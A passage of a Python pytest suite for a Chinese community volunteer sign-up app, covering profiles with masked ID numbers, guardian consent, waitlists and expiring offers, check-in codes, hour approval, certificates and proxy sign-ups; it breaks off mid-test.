"""Volunteer sign-up: profiles, seats and waitlists, offers that run out, age rules, overlaps,
check-in, the hour arithmetic, the ledger, certificates and proxies."""

import csv
import io
import re
from datetime import date, datetime, timedelta

import pytest
from itsdangerous import URLSafeTimedSerializer
from sqlalchemy import func, select

from blueprints.core.workflow import Refused
from blueprints.notices.models import Notice
from blueprints.util.times import utcnow
from blueprints.volunteers import clock, codes, hours, messages, profiles, rules, seats, signups
from blueprints.volunteers.activities import new_code
from blueprints.volunteers.models import (
    Activity,
    Certificate,
    HoursRecord,
    Shift,
    Signup,
    VolunteerProfile,
)
from extensions import db
from tests.factories import create_org, create_profile, create_shift
from tests.keyset import refuses_forged_keys, walk
from tests.people import (
    ADMIN,
    C02_GRID_WORKER,
    GRID_WORKER,
    ORG_OFFICER,
    RESIDENT,
    community,
    person,
)

# A real-format ID number with a valid GB 11643 check digit, born 1956-04-12.
GOOD_ID = "110101195604120012"


def join(shift, profile, actor=None):
    return signups.join_shift(shift, profile, actor or profile.user)


def states(shift):
    db.session.expire_all()
    return [s.state for s in db.session.get(Shift, shift.id).signups]


# ---- profiles --------------------------------------------------------------------------------


def test_id_numbers_follow_the_gb11643_check_digit():
    assert profiles.valid_id(GOOD_ID)
    assert not profiles.valid_id(GOOD_ID[:-1] + "5")
    assert not profiles.valid_id("11010119560412001")
    assert profiles.valid_id("11010519491231002X")
    assert profiles.mask_id(GOOD_ID) == "11**************12"


def test_a_profile_gets_a_number_and_keeps_only_a_masked_id(client, demo, login_as, ctx):
    login_as(RESIDENT)
    invite = client.get("/volunteers/mine")
    assert invite.status_code == 200
    assert "填写志愿者资料" in invite.get_data(as_text=True)
    form = {
        "real_name": "张桂兰",
        "birth_date": "1956-04-12",
        "community_id": str(community().id),
        "skills": ["care", "clean"],
        "id_number": GOOD_ID[:-1] + "5",
        "rules": "y",
    }
    bad = client.post("/volunteers/profile", data=dict(form))
    assert bad.status_code == 422
    page = bad.get_data(as_text=True)
    assert "身份证号不对" in page
    assert 'value="张桂兰"' in page
    assert db.session.scalar(select(func.count(VolunteerProfile.id))) == 0
    no_rules = client.post("/volunteers/profile", data={**form, "id_number": GOOD_ID, "rules": ""})
    assert no_rules.status_code == 422
    ok = client.post("/volunteers/profile", data={**form, "id_number": GOOD_ID})
    assert ok.status_code == 303
    assert ok.headers["Location"] == "/volunteers/mine"
    profile = db.session.scalar(select(VolunteerProfile))
    assert re.fullmatch(r"VC01\d{6}", profile.number)
    assert profile.id_masked == "11**************12"
    assert GOOD_ID not in (profile.id_hash or "")
    assert len(profile.id_hash) == 64
    assert profile.skill_list == ["care", "clean"]
    assert GOOD_ID not in client.get("/volunteers/profile").get_data(as_text=True)


def test_a_minor_names_a_guardian_who_consents_by_a_signed_link(client, demo, login_as, ctx, sms):
    login_as(RESIDENT)
    fifteen = date.today().replace(year=date.today().year - 15) - timedelta(days=3)
    form = {
        "real_name": "张小明",
        "birth_date": fifteen.isoformat(),
        "community_id": str(community().id),
        "rules": "y",
    }
    assert client.post("/volunteers/profile", data=dict(form)).status_code == 422
    guardian = {"guardian_phone": GRID_WORKER, "guardian_name": "李家长"}
    ok = client.post("/volunteers/profile", data={**form, **guardian})
    assert ok.status_code == 303
    # The link comes by text, to the phone typed (an account there is not looked up).
    [(to, text)] = sms
    assert to == GRID_WORKER
    link = "/volunteers/guardian/" + text.rsplit("/volunteers/guardian/", 1)[1]
    shift = create_shift()
    profile = db.session.scalar(select(VolunteerProfile))
    assert (profile.guardian_name, profile.guardian_user_id) == ("李家长", None)
    with pytest.raises(Refused, match="监护人同意"):
        join(shift, profile)
    forged = client.get(link + "x")
    assert forged.status_code == 404
    assert client.post(link, data={"agree": "yes"}).status_code == 303
    db.session.expire_all()
    consented = db.session.get(VolunteerProfile, profile.id)
    assert consented.guardian_consent_at is not None
    assert consented.guardian_user_id == person(GRID_WORKER).id  # proved by the link: now linked
    assert join(shift, db.session.get(VolunteerProfile, profile.id)).state == "confirmed"


# ---- seats, waitlists and offers --------------------------------------------------------------


def test_seats_then_a_waitlist_with_positions(demo, ctx):
    shift = create_shift(capacity=2)
    people = [create_profile(f"1390000000{i}", name=f"人{i}") for i in range(5)]
    got = [join(shift, p) for p in people]
    assert [s.state for s in got] == ["confirmed"] * 2 + ["waitlisted"] * 3
    assert [seats.waitlist_position(s) for s in got] == [None, None, 1, 2, 3]
    assert db.session.get(Shift, shift.id).taken == 2


def test_a_cancel_offers_the_seat_which_runs_out_and_moves_on(demo, ctx, sms):
    shift = create_shift(capacity=1)
    first, second, third = (create_profile(f"1390000001{i}", name=f"人{i}") for i in range(3))
    a, b, c = join(shift, first), join(shift, second), join(shift, third)
    signups.act(a, "cancel", first.user)
    db.session.expire_all()
    b = db.session.get(Signup, b.id)
    assert b.state == "offered"
    assert b.deadline_at <= utcnow() + timedelta(hours=12, seconds=5)
    assert any(phone == second.user.phone and "/volunteers/c/" in text for phone, text in sms)
    assert db.session.get(Shift, shift.id).taken == 1  # held for the offer
    # A newcomer does not jump the queue while a seat is held.
    assert join(shift, create_profile("13900000019", name="后来")).state == "waitlisted"
    counts = clock.tick(utcnow() + timedelta(hours=13))
    assert counts["closed"] == 1
    db.session.expire_all()
    assert db.session.get(Signup, b.id).state == "expired"
    c = db.session.get(Signup, c.id)
    assert c.state == "offered"
    signups.act(c, "accept", third.user)
    assert states(shift).count("confirmed") == 1
    assert db.session.get(Shift, shift.id).taken == 1


def test_an_offer_accepted_after_it_ran_out_is_refused_and_passed_on(demo, ctx):
    shift = create_shift(capacity=1)
    first, second, third = (create_profile(f"1390000002{i}", name=f"人{i}") for i in range(3))
    a, b, c = join(shift, first), join(shift, second), join(shift, third)
    signups.act(a, "cancel", first.user)
    b = db.session.get(Signup, b.id)
    b.deadline_at = utcnow() - timedelta(minutes=1)
    db.session.commit()
    with pytest.raises(Refused, match="保留时间已经过了"):
        signups.act(b, "accept", second.user)
    db.session.expire_all()
    assert db.session.get(Signup, b.id).state == "expired"
    assert db.session.get(Signup, c.id).state == "offered"
    assert db.session.get(Shift, shift.id).taken == 1


def test_an_offer_never_lasts_past_the_start(demo, ctx):
    shift = create_shift(start=utcnow() + timedelta(hours=3), capacity=1, cancel_hours=1)
    first, second = create_profile("13900000031"), create_profile("13900000032")
    a, b = join(shift, first), join(shift, second)
    signups.act(a, "cancel", first.user)
    assert db.session.get(Signup, b.id).deadline_at == shift.starts_at


def test_declining_an_offer_frees_the_seat_for_the_next(demo, ctx):
    shift = create_shift(capacity=1)
    people = [create_profile(f"1390000004{i}") for i in range(3)]
    rows = [join(shift, p) for p in people]
    signups.act(rows[0], "cancel", people[0].user)
    signups.act(db.session.get(Signup, rows[1].id), "decline", people[1].user)
    db.session.expire_all()
    assert [db.session.get(Signup, r.id).state for r in rows] == [
        "cancelled",
        "declined",
        "offered",
    ]


def test_bad_sign_ups_get_clear_messages_and_store_nothing(client, demo, login_as, ctx):
    login_as(RESIDENT)
    profile = create_profile(RESIDENT, name="张桂兰")
    shift = create_shift()
    forged = client.post("/volunteers/shifts/999999/join", data={}, follow_redirects=True)
    assert "没有找到这个班次" in forged.get_data(as_text=True)
    assert client.post(f"/volunteers/shifts/{shift.id}/join", data={}).status_code == 303
    twice = client.post(f"/volunteers/shifts/{shift.id}/join", data={}, follow_redirects=True)
    assert "您已经报过这个班次了" in twice.get_data(as_text=True)
    late = create_shift(
        deadline=utcnow() - timedelta(minutes=1), start=utcnow() + timedelta(days=9)
    )
    past = client.post(f"/volunteers/shifts/{late.id}/join", data={}, follow_redirects=True)
    assert "报名已经截止" in past.get_data(as_text=True)
    rows = db.session.scalars(select(Signup).where(Signup.profile_id == profile.id)).all()
    assert [(r.shift_id, r.state) for r in rows] == [(shift.id, "confirmed")]


def test_cancelling_after_the_cut_off_names_the_organizer(client, demo, login_as, ctx):
    login_as(RESIDENT)
    profile = create_profile(RESIDENT, name="张桂兰")
    shift = create_shift(start=utcnow() + timedelta(hours=10), cancel_hours=24)
    signup = join(shift, profile)
    answer = client.post(f"/volunteers/signups/{signup.id}/act/cancel", data={})
    assert answer.status_code == 422
    assert "已经过了取消的截止时间" in answer.get_data(as_text=True)
    assert db.session.get(Signup, signup.id).state == "confirmed"
    assert db.session.get(Shift, shift.id).taken == 1


# ---- age and overlap ----------------------------------------------------------------------------


def years_ago(n, days=10):
    today = date.today()
    return today.replace(year=today.year - n) - timedelta(days=days)


def test_age_rules(demo, ctx):
    shift = create_shift(min_age=6, capacity=5)
    with pytest.raises(Refused, match="未满6岁"):
        join(shift, create_profile("13900000051", born=years_ago(5)))
    parent = create_profile("13900000052", name="家长")
    child = create_profile(
        "13900000053", born=years_ago(10), guardian="13900000052", consented=True
    )
    assert child.guardian_user_id == parent.user_id
    with pytest.raises(Refused, match="监护人先报上同一个班次"):
        join(shift, child)
    join(shift, parent)
    assert join(shift, child).state == "confirmed"
    teen = create_profile("13900000054", born=years_ago(16), guardian="13900000052")
    with pytest.raises(Refused, match="监护人同意"):
        join(shift, teen)
    teen.guardian_consent_at = utcnow()
    db.session.commit()
    assert join(shift, teen).state == "confirmed"
    adult_only = create_shift(min_age=18, start=utcnow() + timedelta(days=8))
    with pytest.raises(Refused, match="年满18岁"):
        join(adult_only, teen)


def test_overlapping_shifts_are_refused_back_to_back_is_fine(demo, ctx):
    start = utcnow().replace(microsecond=0) + timedelta(days=4)
    profile = create_profile("13900000061")
    join(create_shift(start=start, hours_long=3, title="早班"), profile)
    with pytest.raises(Refused, match="早班"):
        join(create_shift(start=start + timedelta(hours=2), title="中班"), profile)
    assert (
        join(create_shift(start=start + timedelta(hours=3), title="晚班"), profile).state
        == "confirmed"
    )


# ---- check-in and hours ---------------------------------------------------------------------------


def at(hour, minute=0, day=1):
    return datetime(2026, 12, day, hour, minute)


def test_the_hour_arithmetic_at_its_edges():
    shift = Shift(starts_at=at(9), ends_at=at(12))
    assert rules.minutes_served(shift, at(8, 10), at(12)) == 180  # early arrival
    assert rules.minutes_served(shift, at(9, 30), at(13, 45)) == 150  # late leave
    assert rules.minutes_served(shift, at(9, 15), None) == 165  # no check-out
    assert rules.minutes_served(shift, at(12, 30), at(13)) == 0  # came after the end
    night = Shift(starts_at=at(22), ends_at=at(2, day=2))
    assert rules.minutes_served(night, at(21, 50), at(1, 30, day=2)) == 210  # across midnight


def checked_in_shift(capacity=2):
    start = utcnow().replace(microsecond=0) + timedelta(minutes=30)
    shift = create_shift(start=start, capacity=capacity, cancel_hours=0, deadline=start)
    return shift


def test_check_in_by_code_wrong_other_and_right(client, demo, login_as, ctx):
    login_as(RESIDENT)
    profile = create_profile(RESIDENT, name="张桂兰")
    shift, other = checked_in_shift(), create_shift()
    while other.code == shift.code:
        other.code = new_code()
    db.session.commit()
    signup = join(shift, profile)
    url = f"/volunteers/shifts/{shift.id}/check-in"
    wrong = client.post(url, data={"code": "000000" if shift.code != "000000" else "111111"})
    assert wrong.status_code == 422
    assert "签到码不对" in wrong.get_data(as_text=True)
    theirs = client.post(url, data={"code": other.code})
    assert theirs.status_code == 422
    assert db.session.get(Signup, signup.id).state == "confirmed"
    assert client.post(url, data={"code": shift.code}).status_code == 303
    db.session.expire_all()
    assert db.session.get(Signup, signup.id).state == "checked_in"
    assert client.post(url, data={"code": shift.code}).status_code == 303
    db.session.expire_all()
    record = db.session.scalar(select(HoursRecord))
    assert db.session.get(Signup, signup.id).state == "attended"
    assert (record.state, record.minutes, record.organizer) == ("pending", 0, "桃花社区")


def test_check_in_opens_an_hour_before_and_the_code_expires(demo, ctx):
    profile = create_profile("13900000071")
    early = create_shift(start=utcnow() + timedelta(hours=3), cancel_hours=0)
    signup = join(early, profile)
    with pytest.raises(Refused, match="签到时间"):
        codes.check_code(signup, early.code, "check_in")
    late = create_shift(start=utcnow() + timedelta(days=2), cancel_hours=0)
    signup = join(late, profile)
    late.starts_at, late.ends_at = utcnow() - timedelta(hours=5), utcnow() - timedelta(hours=3)
    db.session.commit()
    with pytest.raises(Refused, match="过期"):
        codes.check_code(signup, late.code, "check_in")


def test_wrong_codes_count_per_shift_and_person(client, demo, login_as, ctx):
    """Ten wrong codes stop the person who typed them, on this shift only; a neighbour on the
    same network types the right code and is checked in."""
    guesser, neighbour = create_profile(RESIDENT, name="张桂兰"), create_profile("13900000075")
    shift, other = checked_in_shift(), checked_in_shift()
    mine, theirs = join(shift, guesser), join(shift, neighbour)
    elsewhere = join(other, create_profile("13900000076"))
    url = f"/volunteers/shifts/{shift.id}/check-in"
    wrong = "000000" if shift.code != "000000" else "111111"
    login_as(RESIDENT)
    statuses = [client.post(url, data={"code": wrong}).status_code for _ in range(11)]
    assert statuses == [422] * 10 + [429]
    stopped = client.post(url, data={"code": shift.code})
    assert stopped.status_code == 429
    assert "输错的次数太多" in stopped.get_data(as_text=True)
    login_as("13900000075", "x" * 10)
    assert client.post(url, data={"code": shift.code}).status_code == 303
    db.session.expire_all()
    assert db.session.get(Signup, mine.id).state == "confirmed"
    assert db.session.get(Signup, mine.id).code_tries == codes.CODE_TRIES
    assert db.session.get(Signup, theirs.id).state == "checked_in"
    assert db.session.get(Signup, theirs.id).code_tries == 0
    codes.check_code(db.session.get(Signup, elsewhere.id), other.code, "check_in")
    assert db.session.get(Signup, elsewhere.id).state == "checked_in"


def test_a_missing_check_out_is_closed_and_flagged_by_the_tick(demo, ctx):
    profile = create_profile("13900000081")
    shift = checked_in_shift()
    signup = join(shift, profile)
    codes.check_code(signup, shift.code, "check_in")
    shift.starts_at -= timedelta(hours=6)
    shift.ends_at -= timedelta(hours=6)
    signup.arrived_at = shift.starts_at + timedelta(minutes=20)
    db.session.commit()
    assert clock.tick()["closed_checkouts"] == 1
    db.session.expire_all()
    record = db.session.scalar(select(HoursRecord))
    assert db.session.get(Signup, signup.id).no_checkout
    assert record.flagged
    assert record.minutes == 160
    assert clock.tick()["closed_checkouts"] == 0


def test_roster_marks_present_absent_and_walk_in(client, demo, login_as, ctx):
    shift = checked_in_shift(capacity=1)
    a, b = create_profile("13900000091", name="甲"), create_profile("13900000092", name="乙")
    first = join(shift, a)
    walk = create_profile("13900000093", name="丙")
    login_as(GRID_WORKER)
    page = client.get(f"/volunteers/shifts/{shift.id}").get_data(as_text=True)
    assert shift.code in page
    assert "<svg" in page
    assert "甲" in page
    marked = client.post(f"/volunteers/signups/{first.id}/act/mark_absent", data={"back": "roster"})
    assert marked.status_code == 303, marked.get_data(as_text=True)[-3000:]
    db.session.expire_all()
    assert db.session.get(Signup, first.id).state == "absent"
    bad = client.post(f"/volunteers/shifts/{shift.id}/walk-in", data={"code": "0123456789"})
    assert bad.status_code == 422
    assert "这个现场码不对或已经过期" in bad.get_data(as_text=True)
    code = profiles.show_pass(walk).pass_code
    assert (
        client.post(f"/volunteers/shifts/{shift.id}/walk-in", data={"code": code}).status_code
        == 303
    )
    row = db.session.scalar(select(Signup).where(Signup.profile_id == walk.id))
    assert row.state == "checked_in"
    assert row.walk_in
    assert b  # not signed up: not on the roster
    assert "乙" not in client.get(f"/volunteers/shifts/{shift.id}").get_data(as_text=True)


def test_a_resident_cannot_open_the_roster(client, demo, login_as, ctx):
    shift = create_shift()
    login_as(RESIDENT)
    assert client.get(f"/volunteers/shifts/{shift.id}").status_code == 403
    login_as(C02_GRID_WORKER)  # a grid worker of the other community
    assert client.get(f"/volunteers/shifts/{shift.id}").status_code == 403


# ---- the ledger and certificates ------------------------------------------------------------


def record_for(profile, minutes=150, day=date(2026, 11, 20)):
    record = HoursRecord(
        profile_id=profile.id,
        activity_title="重阳节敬老",
        served_on=day,
        place="活动中心",
        content="陪老人聊天",
        minutes=minutes,
        organizer="桃花社区",
        person_in_charge="李网格",
        community_id=profile.community_id,
        deadline_at=utcnow() + timedelta(days=14),
    )
    db.session.add(record)
    db.session.commit()
    return record


def test_hours_are_approved_declined_corrected_and_never_lost(client, demo, login_as, ctx):
    profile = create_profile(RESIDENT, name="张桂兰")
    one, two = record_for(profile), record_for(profile, 60)
    login_as(RESIDENT)
    assert client.post(f"/volunteers/hours/{one.id}/act/approve", data={}).status_code == 422
    login_as(GRID_WORKER)
    assert (
        client.post(f"/volunteers/hours/{one.id}/act/approve", data={"hours": "4"}).status_code
        == 303
    )
    login_as(ORG_OFFICER)  # more than the time recorded: a second organizer agrees
    assert client.post(f"/volunteers/hours/{one.id}/act/agree", data={}).status_code == 303
    login_as(GRID_WORKER)
    no_reason = client.post(f"/volunteers/hours/{two.id}/act/decline", data={"reason": ""})
    assert no_reason.status_code == 422
    client.post(f"/volunteers/hours/{two.id}/act/decline", data={"reason": "没有签到"})
    login_as(RESIDENT)
    client.post(f"/volunteers/hours/{two.id}/act/ask_correction", data={"note": "我签了到"})
    login_as(GRID_WORKER)
    client.post(f"/volunteers/hours/{two.id}/act/answer", data={"note": "查过了，确实在"})
    client.post(f"/volunteers/hours/{two.id}/act/reopen", data={"reason": "更正"})
    db.session.expire_all()
    one, two = db.session.get(HoursRecord, one.id), db.session.get(HoursRecord, two.id)
    assert (one.state, one.hours) == ("approved", 4.0)
    assert two.state == "pending"
    assert [e.action for e in two.events] == [
        "decline",
        "ask_correction",
        "answer",
        "reopen",
    ]
    assert hours.approved_minutes(profile) == 240


def test_nobody_reviews_their_own_hours(client, demo, login_as, ctx):
    """The grid worker organizes the activity and also served in it: someone else reviews."""
    record = record_for(create_profile(GRID_WORKER, name="李网格"))
    login_as(GRID_WORKER)
    page = client.get(f"/volunteers/hours/{record.id}").get_data(as_text=True)
    assert 'id="act-approve"' not in page
    assert 'id="act-decline"' not in page
    url = f"/volunteers/hours/{record.id}/act/"
    for action, data in (("approve", {"hours": "1"}), ("decline", {"reason": "算了"})):
        refused = client.post(url + action, data=data)
        assert refused.status_code == 422
        assert "不能审核自己的服务时长" in refused.get_data(as_text=True)
    assert db.session.get(HoursRecord, record.id).state == "pending"
    hours.apply(record, "approve", person(ORG_OFFICER))
    refused = client.post(url + "reopen", data={"reason": "再看看"})
    assert refused.status_code == 422
    db.session.expire_all()
    record = db.session.get(HoursRecord, record.id)
    assert record.state == "approved"
    assert [(e.action, e.actor.phone) for e in record.events] == [("approve", ORG_OFFICER)]


def test_more_than_the_time_served_counts_once_a_second_organizer_agrees(
    client, demo, login_as, ctx
):
    profile = create_profile(RESIDENT, name="张桂兰")
    shift = checked_in_shift()
    signup = join(shift, profile)
    codes.check_code(signup, shift.code, "check_in")
    codes.check_code(signup, shift.code, "check_out")
    # Came half an hour early and stayed half an hour late: four hours on a three-hour shift,
    # of which one organizer may approve the shift's three.
    signup = db.session.get(Signup, signup.id)
    signup.arrived_at = shift.starts_at - timedelta(minutes=30)
    signup.left_at = shift.ends_at + timedelta(minutes=30)
    db.session.commit()
    record = db.session.scalar(select(HoursRecord).where(HoursRecord.signup_id == signup.id))
    assert hours.most_minutes(record) == 180
    url = f"/volunteers/hours/{record.id}/act/"
    login_as(GRID_WORKER)
    over = client.post(url + "approve", data={"hours": "4.5"}, follow_redirects=True)
    assert "要第二位组织者同意才计入" in over.get_data(as_text=True)
    db.session.expire_all()
    record = db.session.get(HoursRecord, record.id)
    assert record.state == "awaiting_second"
    assert hours.approved_minutes(profile) == 0
    again = client.post(url + "agree", data={})
    assert again.status_code == 422
    assert "另一位组织者同意" in again.get_data(as_text=True)
    login_as(RESIDENT)
    assert client.post(url + "agree", data={}).status_code == 422
    assert hours.approved_minutes(profile) == 0
    login_as(ORG_OFFICER)
    assert client.post(url + "agree", data={}).status_code == 303
    db.session.expire_all()
    record = db.session.get(HoursRecord, record.id)
    assert (record.state, hours.approved_minutes(profile)) == ("approved", 270)
    steps = [(e.action, e.actor.phone, e.at is not None) for e in record.events[-2:]]
    assert steps == [("approve", GRID_WORKER, True), ("agree", ORG_OFFICER, True)]
    page = client.get(f"/volunteers/hours/{record.id}").get_data(as_text=True)
    assert "同意这个时长" in page
    # Reopened, then approved by one organizer as recorded: the agreed extra does not stay.
    login_as(GRID_WORKER)
    client.post(url + "reopen", data={"reason": "核对"})
    assert client.post(url + "approve", data={"hours": "3"}).status_code == 303
    assert hours.approved_minutes(profile) == 180
    client.post(url + "reopen", data={"reason": "再核对"})
    client.post(url + "approve", data={"hours": ""})
    db.session.expire_all()
    assert hours.approved_minutes(profile) == db.session.get(HoursRecord, record.id).minutes


def test_an_organizer_checking_themselves_out_late_gets_the_shifts_length(demo, ctx):
    worker = create_profile(GRID_WORKER, name="李建国")
    shift = checked_in_shift()
    signup = join(shift, worker)
    codes.check_code(signup, shift.code, "check_in")
    signup = db.session.get(Signup, signup.id)
    signup.arrived_at = shift.starts_at - timedelta(hours=1)
    db.session.commit()
    # Out through the roster's button as the shift's organizer, five hours after its end.
    signups.act(signup, "check_out", person(GRID_WORKER))
    signup = db.session.get(Signup, signup.id)
    signup.left_at = shift.ends_at + timedelta(hours=5)
    db.session.commit()
    record = db.session.scalar(select(HoursRecord).where(HoursRecord.signup_id == signup.id))
    assert hours.most_minutes(record) == shift.minutes == 180
    hours.apply(record, "approve", person(ORG_OFFICER), hours="9")
    assert db.session.get(HoursRecord, record.id).state == "awaiting_second"
    assert hours.approved_minutes(worker) == 0


def test_a_roster_entry_is_approved_up_to_the_shifts_length(demo, ctx):
    shift = checked_in_shift()
    walker = create_profile("13900000131")
    codes.walk_in(shift, profiles.show_pass(walker).pass_code, person(GRID_WORKER))
    signup = db.session.scalar(select(Signup).where(Signup.profile_id == walker.id))
    signups.act(signup, "check_out", person(GRID_WORKER))
    record = db.session.scalar(select(HoursRecord).where(HoursRecord.signup_id == signup.id))
    assert hours.most_minutes(record) == shift.minutes == 180
    hours.apply(record, "approve", person(GRID_WORKER), hours="3.5")
    assert db.session.get(HoursRecord, record.id).state == "awaiting_second"
    hours.apply(record, "decline", person(ORG_OFFICER), reason="只能按班次算")
    assert hours.approved_minutes(walker) == 0


def test_overdue_approvals_are_flagged_once(demo, ctx):
    profile = create_profile("13900000101")
    record = record_for(profile)
    record.deadline_at = utcnow() - timedelta(hours=1)
    db.session.commit()
    assert hours.FLOW.tick()["overdue"] == 1
    assert hours.FLOW.tick()["overdue"] == 0
    assert db.session.get(HoursRecord, record.id).overdue


def test_stars_follow_the_national_levels():
    assert [hours.stars(h) for h in (0, 99.9, 100, 300, 600, 1000, 1499, 1500, 5000)] == [
        0, 0, 1, 2, 3, 4, 4, 5, 5,
    ]  # fmt: skip


def test_a_certificate_verifies_publicly_masked_and_can_be_revoked(client, demo, login_as, ctx):
    profile = create_profile(RESIDENT, name="张桂兰")
    with pytest.raises(Refused):
        hours.issue_certificate(profile)
    record = record_for(profile, 150)
    hours.apply(record, "approve", person(GRID_WORKER))
    login_as(RESIDENT)
    issued = client.post("/volunteers/certificates", data={})
    number = issued.headers["Location"].rsplit("/", 1)[1]
    assert re.fullmatch(r"[2-9A-HJKMNP-Z]{10}", number)
    printable = client.get(f"/volunteers/certificates/{number}").get_data(as_text=True)
    assert "张桂兰" in printable
    assert "2.5" in printable
    assert "<svg" in printable
    anyone = client.application.test_client()
    page = anyone.get(f"/volunteers/verify?number={number.lower()}").get_data(as_text=True)
    assert "这张证明是真的" in page
    assert "张*兰" in page
    assert "张桂兰" not in page
    assert "2.5" in page
    assert anyone.get(f"/volunteers/v/{number}").status_code == 303
    unknown = anyone.get("/volunteers/verify?number=ABCDEFGHJK").get_data(as_text=True)
    assert "没有编号为 ABCDEFGHJK 的证明" in unknown
    assert anyone.get(f"/volunteers/certificates/{number}").status_code == 302  # sign in first
    login_as(ADMIN)
    client.post(f"/volunteers/certificates/{number}/revoke", data={})
    assert "已经作废" in anyone.get(f"/volunteers/verify?number={number}").get_data(as_text=True)


def test_the_csv_holds_approved_records_with_number_and_masked_id(client, demo, login_as, ctx):
    profile = create_profile(RESIDENT, name="张桂兰", born=date(1956, 4, 12), id_number=GOOD_ID)
    shift = create_shift()
    record = record_for(profile)
    record.shift_id = shift.id
    pending = record_for(profile, 30)
    pending.shift_id = shift.id
    db.session.commit()
    hours.apply(record, "approve", person(GRID_WORKER))
    login_as(GRID_WORKER)
    text = client.get(f"/volunteers/shifts/{shift.id}/hours.csv").get_data(as_text=True)
    lines = text.lstrip("\ufeff").splitlines()
    assert lines[0].startswith("志愿者编号,姓名,身份证号,活动名称,服务日期")
    assert lines[1:] == [
        f"{profile.number},张桂兰,11**************12,重阳节敬老,2026-11-20,活动中心,陪老人聊天,2.5,桃花社区,李网格"
    ]
    from blueprints.volunteers.models import RecordExport

    logged = db.session.scalar(select(RecordExport))
    assert (logged.shift_id, logged.user_id, logged.rows) == (shift.id, person(GRID_WORKER).id, 1)


# ---- proxies, confirm links, reminders ---------------------------------------------------------


def test_a_grid_worker_signs_up_and_cancels_for_a_consenting_resident(
    client, demo, login_as, ctx, sms
):
    resident = create_profile(RESIDENT, name="张桂兰", proxy=True)
    refusing = create_profile("13900000111", name="不同意")
    shift = create_shift()
    login_as(GRID_WORKER)
    assert (
        client.post(
            f"/volunteers/shifts/{shift.id}/join", data={"for": str(refusing.id)}
        ).status_code
        == 403
    )
    done = client.post(f"/volunteers/shifts/{shift.id}/join", data={"for": str(resident.id)})
    assert done.status_code == 303
    signup = db.session.scalar(select(Signup).where(Signup.profile_id == resident.id))
    assert signup.state == "confirmed"
    assert signup.events[-1].actor_id == person(GRID_WORKER).id
    assert "代办" in signup.events[-1].detail_text
    link = f"http://127.0.0.1:5000/volunteers/signups/{signup.id}"
    assert (RESIDENT, f"【邻里】网格员为您办理了一项志愿活动的报名事宜。详情：{link}") in sms
    client.post(f"/volunteers/signups/{signup.id}/act/cancel", data={})
    db.session.expire_all()
    assert db.session.get(Signup, signup.id).state == "cancelled"
    told = db.session.scalars(
        select(Notice.text).where(Notice.user_id == person(RESIDENT).id)
    ).all()
    assert "网格员为您取消了“%(title)s”的报名" in told
    login_as(C02_GRID_WORKER)  # a grid worker of another grid
    assert (
        client.post(
            f"/volunteers/shifts/{shift.id}/join", data={"for": str(resident.id)}
        ).status_code
        == 403
    )


def test_the_day_before_link_confirms_and_cancels_without_signing_in(client, demo, ctx, sms):
    profile = create_profile(RESIDENT, name="张桂兰")
    shift = create_shift(start=utcnow() + timedelta(hours=20), cancel_hours=12)
    signup = join(shift, profile)
    assert clock.tick()["day_before"] == 1
    assert clock.tick()["day_before"] == 0
    link = next(re.search(r"(/volunteers/c/\S+)", t)[1] for p, t in sms if p == RESIDENT)
    page = client.get(link).get_data(as_text=True)
    assert "确认会来" in page
    assert "取消报名" in page
    assert client.post(link + "/act/confirm_coming", data={}).status_code == 303
    assert db.session.get(Signup, signup.id).coming_confirmed_at is not None
    assert client.get(link + "x").status_code == 404
    assert client.post(link + "/act/cancel", data={}).status_code == 303
    db.session.expire_all()
    assert db.session.get(Signup, signup.id).state == "cancelled"
    notices = db.session.scalars(select(Notice.text).where(Notice.user_id == profile.user_id)).all()
    assert "提醒：您报名的“%(title)s”在 %(start)s 开始" in notices


def readable(token):
    """What anyone holding a signed link can read in it: itsdangerous signs, it does not hide."""
    return str(URLSafeTimedSerializer("not-our-key").load_payload(token.rsplit(".", 2)[0].encode()))


def test_an_offer_link_accepts_signed_out_once_and_never_cancels_a_later_sign_up(
    client, demo, ctx, sms
):
    shift = create_shift(capacity=1)
    first, second = create_profile("13900000111"), create_profile("13900000112")
    a, b = join(shift, first), join(shift, second)
    signups.act(a, "cancel", first.user)
    offer = next(re.search(r"(/volunteers/c/\S+)", t)[1] for p, t in sms if p == second.user.phone)
    assert second.user.phone not in readable(offer.rsplit("/", 1)[1])
    assert "接受名额" in client.get(offer).get_data(as_text=True)
    accepted = client.post(offer + "/act/accept", data={})
    assert accepted.status_code == 303
    db.session.expire_all()
    assert db.session.get(Signup, b.id).state == "confirmed"
    # The next page goes on with a new link; the offer link has done its one thing.
    assert client.get(accepted.headers["Location"]).status_code == 200
    used = client.get(offer)
    assert used.status_code == 404
    assert "已经用过了" in used.get_data(as_text=True)
    signups.act(db.session.get(Signup, b.id), "cancel", second.user)
    join(shift, db.session.get(VolunteerProfile, second.id))
    assert client.post(offer + "/act/cancel", data={}).status_code == 404
    assert client.post(offer + "/act/decline", data={}).status_code == 404
    db.session.expire_all()
    assert db.session.get(Signup, b.id).state == "confirmed"


def test_no_signed_link_carries_a_phone(demo, ctx):
    minor = create_profile("13900000121", born=date(2012, 1, 1), guardian=GRID_WORKER)
    token = profiles.make_token("guardian", minor.id, minor.guardian_phone)
    assert GRID_WORKER not in readable(token)
    assert profiles.guardian_profile(token).id == minor.id
    minor.guardian_phone = "13900000122"
    db.session.commit()
    with pytest.raises(Refused, match="链接不对"):
        profiles.guardian_profile(token)


def test_after_the_cut_off_the_link_shows_the_organizer(client, demo, ctx):
    profile = create_profile(RESIDENT, name="张桂兰")
    shift = create_shift(start=utcnow() + timedelta(hours=20), cancel_hours=24)
    signup = join(shift, profile)
    link = "/volunteers/c/" + messages.confirm_token(signup)
    page = client.get(link).get_data(as_text=True)
    assert "取消报名" not in page
    assert "已过取消截止时间" in page
    assert GRID_WORKER in page
    assert client.post(link + "/act/cancel", data={}).status_code == 422
    assert db.session.get(Signup, signup.id).state == "confirmed"


def test_a_calendar_file_per_shift(client, demo, ctx):
    shift = create_shift()
    body = client.get(f"/volunteers/shifts/{shift.id}/calendar.ics").get_data(as_text=True)
    assert "BEGIN:VEVENT" in body
    assert shift.starts_at.strftime("%Y%m%dT%H%M%SZ") in body


# ---- posting activities ------------------------------------------------------------------------


def test_posting_an_activity_checks_place_times_and_insurance(client, demo, login_as, ctx):
    start = (utcnow() + timedelta(days=6)).replace(microsecond=0) + timedelta(hours=8)
    form = {
        "title": "河边清理",
        "place": "柳塘河边",
        "community_id": str(community().id),
        "signup_deadline": (start - timedelta(days=1)).strftime("%Y-%m-%dT%H:%M"),
        "cancel_hours": "24",
